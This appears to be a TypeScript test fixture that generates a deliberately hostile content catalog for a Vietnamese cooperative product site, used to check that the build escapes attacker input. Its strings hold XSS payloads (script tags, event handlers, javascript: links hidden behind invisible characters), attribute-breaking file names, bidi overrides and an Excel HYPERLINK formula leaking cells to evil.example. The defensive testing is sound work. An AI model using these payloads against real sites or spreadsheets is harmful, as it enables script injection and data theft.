/**
 * A catalog written by an attacker, generated for the build and browser tests into
 * `tests/.output/hostile-catalog` (generated, not committed: some of its file names and characters
 * cannot live in a Git checkout on every system).
 *
 * Every text field of the front matter carries markup; the bodies carry the vectors written for
 * this project (forged Astro image placeholders, look-alike `javascript:` links, the placeholder
 * word in text); names carry control characters, bidirectional overrides and spreadsheet formulas;
 * an image's file name and alt text try to close the attribute they land in. All of it is valid
 * content in the contract's sense: `npm run check` must accept it (warnings allowed), the build
 * must succeed, and no page may run it.
 */
import { copyFileSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { stringify } from 'yaml';
import { FIXTURE_CATALOG, OUTPUT_DIR, REPO_ROOT } from './fixture.ts';

export const HOSTILE_CATALOG = path.join(OUTPUT_DIR, 'hostile-catalog');
export const HOSTILE_DIST = path.join(OUTPUT_DIR, 'hostile-dist');
export const HOSTILE_SITE_URL = 'https://hostile.example.vn';

export const COOP = 'htx-thu-nghiem-an-toan';
/** Pages of the catalog, each carrying every vector. */
export const HOSTILE_PAGES = [
  `/hop-tac-xa/${COOP}/`,
  `/hop-tac-xa/${COOP}/cong-thuc/`,
  `/hop-tac-xa/${COOP}/the-script/`,
  '/bai-viet/bai-thu/',
];

/** Markup that must come out as text wherever a field is shown. */
export const MARKUP = '"><img src=x onerror=alert(1)><script>alert(2)</script>';
/** A formula Excel would turn into a live link that leaks the sheet. */
export const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Bấm xem giá")';
/** A name with a control character, a zero-width space and a right-to-left override. */
export const DIRTY_NAME = 'Hợp tác xã\u0001 Thử\u200b nghiệm \u202eAn toàn';
export const CLEAN_NAME = 'Hợp tác xã Thử nghiệm An toàn';
/** An image file name that tries to close the attribute it is written into. */
export const HOSTILE_FILE = 'anh"onload=alert(3) x=.jpg';

/** Unicode spaces and invisible characters a browser or another parser may skip before a scheme. */
const LOOKALIKE_PREFIXES = ['&nbsp;', '\u2028', '\u1680', '\u180e', '\u2000', '\u200a', '\u200b', '\u205f', '\u3000', '&#x09;', '&#106;'];

const placeholder = (src: string, extra: Record<string, unknown>) =>
  `<img __ASTRO_IMAGE_='${JSON.stringify({ src, alt: 'x', ...extra, index: 0 })}'>`;

/** A body with every vector; `src` is the photo as the file names it (`./p.jpg` or `../p.jpg`). */
const body = (src: string) =>
  [
    'Mô tả sản phẩm, có ảnh thật của hợp tác xã:',
    '',
    `![ảnh](${src})`,
    '',
    placeholder(src, { onload: 'alert(4)', onerror: 'alert(5)' }),
    '',
    placeholder(src, {
      style: 'position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647',
      id: 'search-form',
      class: 'site-header',
    }),
    '',
    placeholder(src, { widths: [10, 20, 30, 40, 50, 60, 70, 80, 90, 100], srcset: 'https://evil.example/x.jpg 1x' }),
    '',
    ...LOOKALIKE_PREFIXES.map((prefix, i) => `<a href="${prefix}javascript:alert(${10 + i})">liên kết ${i}</a>`),
    '',
    'Chữ __ASTRO_IMAGE_="x" giữa câu, và `__ASTRO_IMAGE_="{"` trong mã.',
    '',
    '<p style="position:fixed;inset:0;background:red" id="main" class="site-header" onmouseover="alert(6)" tabindex="0" onfocus="alert(7)">đoạn văn</p>',
    '',
    '<svg><animate onbegin="alert(8)" attributeName="x"/></svg>',
    '',
    '<details open ontoggle="alert(9)"><summary>mở</summary>x</details>',
    '',
    '[bấm](javascript:alert(30)) [web](https://shopee.vn/htx) <a href="//evil.example/">xa</a>',
    '',
    'Dòng có ký tự ẩn:\u0001\u200b\u202e đây.',
    '',
    '<script>alert(31)</script><iframe src="https://evil.example/"></iframe>',
  ].join('\n');

/** Every text field of a product set to `value` (stars, dates and prices stay valid). */
function product(name: string, value: string, image: string) {
  return {
    name,
    group: 'thuc-pham',
    summary: value,
    images: [{ src: `../${image}`, alt: MARKUP }],
    ocop: { stars: 4, issuedOn: '2025-03-10', decision: value, issuer: value },
    certifications: [
      { type: 'other', name: value, code: value, issuer: value, issuedOn: '2025-01-01', validUntil: '2027-01-01' },
      { type: 'chi-dan-dia-ly', name: value, code: value, issuer: value, issuedOn: '2017-01-01' },
      { type: 'nhan-hieu-tap-the', name: value, code: value, issuer: value, issuedOn: '2020-01-01' },
    ],
    price: { from: '45000', unit: value },
    packaging: value,
    shelfLife: value,
    ingredients: value,
    season: ['1', '2'],
    buy: [{ label: value, url: 'https://shopee.vn/htx?q="><script>alert(11)</script>' }],
    traceability: 'https://truyxuat.example.vn/sp/"><img src=x onerror=alert(41)>',
    tags: [value, FORMULA],
    added: '2026-05-01',
  };
}

const markdown = (front: object, body: string) => `---\n${stringify(front, { lineWidth: 0 })}---\n\n${body}\n`;

/** Writes the catalog (replacing any earlier one) and returns its folder. */
export function writeHostileCatalog(dir = HOSTILE_CATALOG): string {
  rmSync(dir, { recursive: true, force: true });
  const coopDir = path.join(dir, 'cooperatives', COOP);
  mkdirSync(path.join(coopDir, 'products'), { recursive: true });
  mkdirSync(path.join(dir, 'stories'), { recursive: true });
  const photos = path.join(REPO_ROOT, FIXTURE_CATALOG, 'cooperatives/htx-mat-ong-bac-ha/images');
  copyFileSync(path.join(photos, 'mat-ong-1.jpg'), path.join(coopDir, 'p.jpg'));
  copyFileSync(path.join(photos, 'mat-ong-2.jpg'), path.join(coopDir, HOSTILE_FILE));
  writeFileSync(
    path.join(dir, 'site.yaml'),
    stringify({
      name: `Trang thử nghiệm ${MARKUP}`,
      region: 'Tỉnh Vĩnh Long',
      url: HOSTILE_SITE_URL,
      description: `Dữ liệu tấn công ${MARKUP}`,
      notice: MARKUP,
      contact: { phone: '+84 912 345 678', email: 'lienhe@hostile.example.vn', address: MARKUP },
    }),
  );
  writeFileSync(
    path.join(coopDir, 'index.md'),
    markdown(
      {
        name: DIRTY_NAME,
        summary: MARKUP,
        representative: MARKUP,
        address: { street: `@SUM(1+1) ${MARKUP}`, commune: `Xã An Bình ${MARKUP}`, district: MARKUP, province: 'Vĩnh Long' },
        phone: '+84 912 345 678',
        zalo: 'https://zalo.me/0912345678?"><script>alert(12)</script>',
        website: 'https://example.vn/"onmouseover="alert(13)',
        logo: { src: `./${HOSTILE_FILE}`, alt: MARKUP },
        cover: './p.jpg',
        tags: [MARKUP],
        added: '2026-05-01',
      },
      body('./p.jpg'),
    ),
  );
  writeFileSync(path.join(coopDir, 'products', 'cong-thuc.md'), markdown(product(FORMULA, MARKUP, 'p.jpg'), body('../p.jpg')));
  writeFileSync(
    path.join(coopDir, 'products', 'the-script.md'),
    markdown(product('</script><script>alert(1)</script>', `-1+1 ${MARKUP}\u2028\u2029`, HOSTILE_FILE), body('../p.jpg')),
  );
  writeFileSync(
    path.join(dir, 'stories', 'bai-thu.mdx'),
    markdown(
      {
        title: 'Bài viết nhắc tới sản phẩm thử nghiệm',
        summary: 'Một bài viết của cán bộ, nhắc tới các sản phẩm có tên lạ.',
        date: '2026-05-01',
        cooperatives: [COOP],
        products: [`${COOP}/cong-thuc`, `${COOP}/the-script`],
      },
      'Bài viết của cán bộ.',
    ),
  );
  return dir;
}
